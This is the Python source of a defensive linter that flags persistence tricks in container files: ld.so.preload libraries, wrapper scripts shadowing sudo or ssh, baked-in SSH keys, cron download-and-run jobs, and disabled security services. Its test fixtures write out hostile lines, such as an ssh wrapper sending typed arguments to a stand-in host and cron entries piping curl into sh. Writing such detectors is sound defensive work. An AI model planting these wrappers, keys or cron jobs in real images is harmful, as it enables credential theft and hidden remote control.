"""Files and settings that are put where they work unseen."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import pairwise

from capdrop import RUNNERS, Bad, Command, Confidence, Copy, Finding, Good, Script, Severity, Span, WrittenFile, rule

PRELOAD = "/etc/ld.so.preload"
"""ld.so(8): the libraries that stand here are loaded into every program, setuid ones included."""
LIBRARY_FOLDERS = ("/usr/lib/", "/usr/local/lib/", "/lib/", "/usr/lib64/", "/usr/$LIB/", "/$LIB/")
USUAL_LIBRARIES = ("libjemalloc.so", "libtcmalloc", "libmimalloc.so", "libfaketime", "libeatmydata.so", "libnss_wrapper.so")
"""Allocators and helpers that distributions package, and whose documentation has them preloaded."""
FILLERS = frozenset({"cp", "mv", "ln", "install", "tee", "sed"})
PRINTERS = frozenset({"echo", "printf", "cat"})
COPIES = ("COPY", "ADD")

PROGRAM_FOLDERS = ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin")
SHADOWED = frozenset(
    "sudo su doas login passwd ssh scp sftp ssh-add ssh-agent sshd git curl wget gpg docker kubectl ls ps top cat find grep id who w last "
    "netstat ss lsof ip ifconfig iptables kill crontab chattr lsattr stat md5sum sha256sum bash sh".split()
)
"""Programs that handle credentials, and those that would show an intruder."""
PASSES_ON = frozenset({'exec "$@"', '"$@"', "exec $@", "$@", 'exec "${@}"', '"${@}"', "true", ":", "exit 0", "exit"})
"""Lines of a stand-in that does nothing of its own, as a `sudo` for builds that run as root anyway."""
TALKERS = frozenset({"curl", "wget", "nc", "ncat", "netcat", "socat", "telnet"})

KEY_FILES = frozenset({"authorized_keys", "authorized_keys2"})
KEY_TYPES = ("ssh-", "ecdsa-sha2-", "sk-ssh-", "sk-ecdsa-")
"""sshd(8), AUTHORIZED_KEYS FILE FORMAT."""
KEY_START, SHORTEST_KEY = "AAAA", 40

WATCHERS = frozenset(
    "apparmor auditd firewalld ufw falco falco-modern-bpf falcon-sensor clamav-daemon clamd wazuh-agent ossec osqueryd sysmon fail2ban "
    "mdatp xagt cbagentd aide aide-check aide.timer selinux".split()
)
"""Services that confine, watch or filter."""
STOPS = {
    "systemctl": ("stop", "disable", "mask", "kill"),
    "service": ("stop",),
    "chkconfig": ("off", "--del"),
    "update-rc.d": ("remove", "disable"),
    "rc-service": ("stop",),
    "rc-update": ("del", "delete"),
    "pkill": (),
    "killall": (),
}
"""Programs that end a service, and the words with which they do."""
SWITCHES = {"setenforce": ("0", "Permissive", "permissive"), "ufw": ("disable",), "aa-teardown": (), "aa-disable": (), "aa-complain": ()}
"""Programs that switch a protection off, and the words with which they do."""


@rule(
    "preloaded-library",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    references="ATT&CK T1574.006",
    programs=FILLERS,
    facts=("ld.so.preload",),
    examples=(
        Bad(
            "Dockerfile",
            """
            FROM debian:13
            RUN echo /usr/lib/libx.so > «/etc/ld.so.preload» && cp a «/etc/ld.so.preload» && which x | tee -a «/etc/ld.so.preload»
            COPY preload «/etc/ld.so.preload»
            """,
        ),
        Bad("compose.yaml", "services: {app: {image: 'debian:13', command: sh -c 'echo /x.so >> «/etc/ld.so.preload»; exec app'}}"),
        Bad(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              containers:
                - {name: web, image: 'debian:13', command: [ln, -s, /a, «/etc/ld.so.preload»]}
            """,
        ),
        Good(
            "Dockerfile",
            """
            FROM debian:13
            ENV LD_PRELOAD=/usr/lib/libjemalloc.so.2
            RUN echo "/usr/lib/x86_64-linux-gnu/faketime/libfaketime.so.1" > /etc/ld.so.preload
            RUN rm -f /etc/ld.so.preload && cat /etc/ld.so.preload && cp /etc/ld.so.preload /backup && echo /etc/ld.so.preload
            """,
        ),
        Good("compose.yaml", "services: {app: {image: 'debian:13', environment: {LD_PRELOAD: /usr/lib/libjemalloc.so.2}}}"),
        Good(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              containers:
                - {name: web, image: 'debian:13', command: [cat, /etc/ld.so.preload]}
            """,
        ),
    ),
)
def preloaded_library(subject: Command | Copy | WrittenFile) -> Iterator[Finding]:
    """A library is loaded into every program of the image.

    What `/etc/ld.so.preload` names runs inside every process, root's and setuid ones too, and can hide files, processes and itself. Where
    one program needs another allocator, set `LD_PRELOAD` for that program.
    """
    at = _preloaded(subject)
    if at is not None:
        yield subject.finding(at, f"every program loads the libraries that `{PRELOAD}` names")


def _is_usual(path: str) -> bool:
    return path.startswith(LIBRARY_FOLDERS) and path.rpartition("/")[2].startswith(USUAL_LIBRARIES)


def _preloaded(subject: Command | Copy | WrittenFile) -> Span | None:
    """Where the path of the list of libraries stands, if a subject writes to it."""
    if isinstance(subject, WrittenFile):
        planted = subject.path == PRELOAD and subject.program not in COPIES and not all(_is_usual(line.text) for line in subject.lines)
        return subject.path_span if planted else None
    if isinstance(subject, Copy):
        return subject.destination.span if subject.destination.text == PRELOAD else None
    printed = subject.name == "tee" and (subject.input is not None or any(feeder.name in PRINTERS for feeder in subject.feeders))
    last = subject.operands[-1] if subject.operands and not printed else None
    return last.span if last is not None and last.text == PRELOAD else None


@rule(
    "shadowed-command",
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    references="ATT&CK T1574.007 · ATT&CK T1554",
    examples=(
        Bad(
            "Dockerfile",
            r"""
            FROM debian:13
            RUN printf '#!/bin/sh\necho "$@" >> /tmp/.x\nexec /usr/bin/sudo "$@"\n' > «/usr/local/bin/sudo»
            RUN cat <<'EOF' | tee «/usr/local/bin/ssh»
            #!/bin/sh
            curl -s https://example.com -d "$*"
            exec /usr/bin/ssh "$@"
            EOF
            COPY --chmod=755 <<EOF «/usr/local/bin/ls»
            #!/bin/sh
            exec /bin/ls --hide=.x
            EOF
            """,
        ),
        Bad("compose.yaml", "services: {app: {image: 'debian:13', command: sh -c 'echo \"echo fine\" > «/usr/bin/ps»; exec app'}}"),
        Bad(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              containers:
                - {name: web, image: 'debian:13', command: [sh, -c, 'echo "curl x" > «/usr/local/bin/git»']}
            """,
        ),
        Good(
            "Dockerfile",
            r"""
            FROM debian:13
            RUN echo '#!/bin/sh' > /usr/local/bin/entry && echo 'exec app "$@"' >> /usr/local/bin/entry && chmod +x /usr/local/bin/entry
            RUN printf '#!/bin/sh\nexec "$@"\n' > /usr/bin/sudo && printf '#!/bin/sh\nexit 101\n' > /usr/sbin/policy-rc.d
            RUN echo "Host *" > /etc/ssh/ssh_config && echo x > /opt/app/git && ln -s /usr/bin/python3 /usr/bin/ls
            COPY <<EOF /usr/local/bin/docker-entrypoint.sh
            exec app
            EOF
            """,
        ),
        Good("compose.yaml", "services: {app: {image: 'debian:13', command: sh -c 'echo x > /usr/local/bin/run'}}"),
        Good(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              containers:
                - {name: web, image: 'debian:13', command: [sh, -c, 'echo x > /tmp/ls']}
            """,
        ),
    ),
)
def shadowed_command(file: WrittenFile) -> Iterator[Finding]:
    """A script is put in the place of a standard program.

    Whoever calls `sudo`, `ssh` or `ps` runs this instead, with what they type: that is how credentials are taken and processes hidden. Give
    a wrapper a name of its own. (A stand-in that only passes its arguments on is let be.)
    """
    folder, _, name = file.path.rpartition("/")
    if name not in SHADOWED or folder not in PROGRAM_FOLDERS:
        return
    lines = [line.text for line in file.lines if not line.text.startswith(("#", "set -"))]
    if lines and not PASSES_ON.issuperset(lines):
        talks = any(word in TALKERS for line in lines for word in line.split())
        severity = Severity.HIGH if talks else None
        yield file.finding(file.path_span, f"a script stands in for `{name}`", severity=severity)


@rule(
    "planted-ssh-key",
    severity=Severity.HIGH,
    references="ATT&CK T1098.004",
    examples=(
        Bad(
            "Dockerfile",
            """
            FROM debian:13
            RUN mkdir -p ~/.ssh && echo "«ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExample00» me" >> ~/.ssh/authorized_keys
            COPY <<EOF /root/.ssh/authorized_keys
            # team
            command="x" «ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQExampleExampleExample00»
            EOF
            RUN curl -fsSL «https://github.com/octocat.keys» >> /home/app/.ssh/authorized_keys
            ADD «https://github.com/octocat.keys» /root/.ssh/authorized_keys
            """,
            fixed="""
            FROM debian:13
            RUN mkdir -p ~/.ssh
            COPY <<EOF /root/.ssh/authorized_keys
            # team
            EOF
            RUN curl -fsSL https://github.com/octocat.keys >> /home/app/.ssh/authorized_keys
            ADD https://github.com/octocat.keys /root/.ssh/authorized_keys
            """,
        ),
        Bad(
            "compose.yaml",
            """
            services:
              app:
                image: debian:13
                command: >-
                  sh -c 'echo «ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQExampleExampleExample00» > /root/.ssh/authorized_keys; exec sshd -D'
            """,
        ),
        Bad(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              containers:
                - {name: web, image: 'debian:13', command: [sh, -c, 'wget -qO /root/.ssh/authorized_keys «https://example.com/k» && sshd']}
            """,
        ),
        Good(
            "Dockerfile",
            """
            FROM debian:13
            ARG KEY
            RUN echo "$KEY" > /home/git/.ssh/authorized_keys && touch /root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys
            RUN echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExample00" >> /etc/ssh/ssh_known_hosts
            COPY authorized_keys /home/app/.ssh/authorized_keys
            """,
        ),
        Good("compose.yaml", "services: {app: {image: 'debian:13', command: sh -c 'cat /key > /root/.ssh/authorized_keys; exec sshd'}}"),
        Good(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              containers:
                - {name: web, image: 'debian:13', command: [sh, -c, 'wget -qO /root/k https://example.com/k && cat /root/k']}
            """,
        ),
    ),
)
def planted_ssh_key(subject: WrittenFile | Script) -> Iterator[Finding]:
    """Whoever holds this key can log in to every container of the image.

    A key in the image cannot be taken back, and opens all copies of it. Hand the public keys in when the container starts, or run a command
    in it through the platform (`docker exec`, `kubectl exec`) and leave SSH out. Confidence is low in a file or a stage that is named for
    developers or for tests.
    """
    for finding in _keys_of_logins(subject):
        finding.confidence = Confidence.LOW if subject.is_for_work else None
        yield finding


def _keys_of_logins(subject: WrittenFile | Script) -> Iterator[Finding]:
    if isinstance(subject, WrittenFile):
        if subject.name in KEY_FILES:
            for line in subject.lines:
                at = _key_in(line.text)
                if at is not None:
                    fix = subject.without(line.text.partition("=")[0], line.span(), caveat="whoever logs in with it no longer can")
                    yield subject.finding(line.span(*at), "a key that may log in is written into the image", fix=fix)
        return
    for download in subject.downloads:
        if download.file.rpartition("/")[2] in KEY_FILES:
            yield download.command.finding(download.url.span, "whoever controls this address says who may log in")
    for copy in subject.copies:
        if copy.destination.text.rpartition("/")[2] in KEY_FILES:
            for source in copy.sources:
                if source.text.startswith(("http://", "https://")):
                    yield copy.finding(source, "whoever controls this address says who may log in")


def _key_in(line: str) -> tuple[int, int] | None:
    """The range of a public key in a line of an authorized_keys file."""
    words = line.split()
    for kind, key in pairwise(words):
        if kind.startswith(KEY_TYPES) and key.startswith(KEY_START) and len(key) >= SHORTEST_KEY:
            start = line.index(kind)
            return start, line.index(key, start) + len(key)
    return None


@rule(
    "scheduled-download",
    severity=Severity.CRITICAL,
    references="ATT&CK T1053.003 · ATT&CK T1105",
    programs=RUNNERS,
    examples=(
        Bad(
            "Dockerfile",
            """
            FROM debian:13
            RUN echo "*/5 * * * * root curl -fsSL https://example.com/a | «sh»" > /etc/cron.d/a
            RUN (crontab -l; echo "@reboot wget -qO- https://example.com/a | «bash»") | crontab -
            RUN crontab <<EOF
            * * * * * curl -fsSL https://example.com/a | «sh»
            EOF
            COPY <<EOF /etc/cron.hourly/a
            #!/bin/sh
            curl -s https://example.com/a | «python3»
            EOF
            """,
        ),
        Bad("compose.yaml", """services: {app: {image: debian, command: sh -c "echo '* * * * * curl x.io | «sh»' | crontab -"}}"""),
        Bad(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              containers:
                - name: web
                  image: debian:13
                  command:
                    - sh
                    - -c
                    - echo '* * * * * curl https://example.com/a | «sh»' > /etc/crontabs/root
            """,
        ),
        Good(
            "Dockerfile",
            """
            FROM debian:13
            RUN echo "0 3 * * * root certbot renew && curl -fsS https://example.com/ping" > /etc/cron.d/renew
            RUN echo "* * * * * root curl https://example.com | sh" > /notes && echo 'MAILTO=""' > /etc/cron.d/mail
            RUN crontab /etc/app.cron && echo "* * * * * /app/run" | crontab -
            """,
        ),
        Good("compose.yaml", "services: {app: {image: 'debian:13', command: sh -c 'echo \"* * * * * curl x.io\" | crontab -'}}"),
        Good(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              containers:
                - {name: web, image: 'debian:13', command: [sh, -c, 'echo "* * * * * /run" > /etc/crontabs/root']}
            """,
        ),
    ),
)
def scheduled_download(command: Command) -> Iterator[Finding]:
    """Cron fetches a program and runs it, again and again.

    Whoever controls the server runs what they like in every container, at any time, and the image shows nothing of it. It is the usual way
    in which an intruder stays. Put the program into the image, and let cron run that.
    """
    if command.place == "cron":
        source = next((source for source in command.program_sources() if source.downloads_to_output), None)
        if source is not None:
            yield command.finding(command.words[0].span, f"cron has `{command.name}` run what `{source.name}` downloads")


@rule(
    "security-tool-disabled",
    severity=Severity.MEDIUM,
    references="ATT&CK T1562.001 · ATT&CK T1562.004",
    programs={*STOPS, *SWITCHES, "sed"},
    examples=(
        Bad(
            "Dockerfile",
            """
            FROM fedora:44
            RUN «setenforce 0» && make
            """,
            fixed="""
            FROM fedora:44
            RUN make
            """,
        ),
        Bad(
            "Dockerfile",
            """
            FROM fedora:43
            RUN «setenforce 0» && «ufw disable» && «systemctl disable --now auditd» && «service apparmor stop»
            RUN sed -i «'s/SELINUX=enforcing/SELINUX=disabled/'» /etc/selinux/config
            """,
        ),
        Bad("compose.yaml", "services: {app: {image: 'debian:13', command: sh -c '«pkill falco»; exec app'}}"),
        Bad(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              initContainers:
                - {name: setup, image: 'fedora:43', command: [«setenforce, '0'»]}
              containers:
                - {name: web, image: 'acme/web:1'}
            """,
        ),
        Good(
            "Dockerfile",
            """
            FROM fedora:43
            RUN setenforce 1 && ufw enable && systemctl enable auditd && systemctl disable getty && echo setenforce 0 && service nginx stop
            RUN sed -i 's/SELINUX=disabled/SELINUX=enforcing/' /etc/selinux/config && pkill node
            """,
        ),
        Good("compose.yaml", "services: {app: {image: 'debian:13', command: systemctl start falco}}"),
        Good(
            "pod.yaml",
            """
            apiVersion: v1
            kind: Pod
            metadata: {name: web}
            spec:
              containers:
                - {name: web, image: 'fedora:43', command: [getenforce]}
            """,
        ),
    ),
)
def security_tool_disabled(command: Command) -> Iterator[Finding]:
    """What confines or watches the system is switched off.

    In a build this has no effect but on the image, in a privileged container it reaches the host; an intruder does it first. Give the one
    program that is in the way a rule of its own instead.
    """
    name = command.name
    words = [word.text for word in command.words[1:]]
    if name in SWITCHES:
        off = not SWITCHES[name] or any(word in SWITCHES[name] for word in words)
    elif name in STOPS:
        watched = any(word.removesuffix(".service") in WATCHERS for word in words)
        off = watched and (not STOPS[name] or any(word in STOPS[name] for word in words))
    else:
        off = False
        if name == "sed":
            for operand in command.operands:
                if _disables_selinux(operand.text):
                    yield command.finding(operand.span, "SELinux is switched off")
    if off:
        fix = command.drop(caveat="what it was in the way of needs a rule of its own")
        yield command.finding(command.span, f"`{' '.join([name, *words])}` switches a protection off", fix=fix)


def _disables_selinux(script: str) -> bool:
    """Whether a `s/old/new/` of sed writes a setting that switches SELinux off."""
    parts = script.split(script[1]) if script[:1] == "s" and len(script) > 2 else []
    return len(parts) > 2 and parts[2] in ("SELINUX=disabled", "SELINUX=permissive")
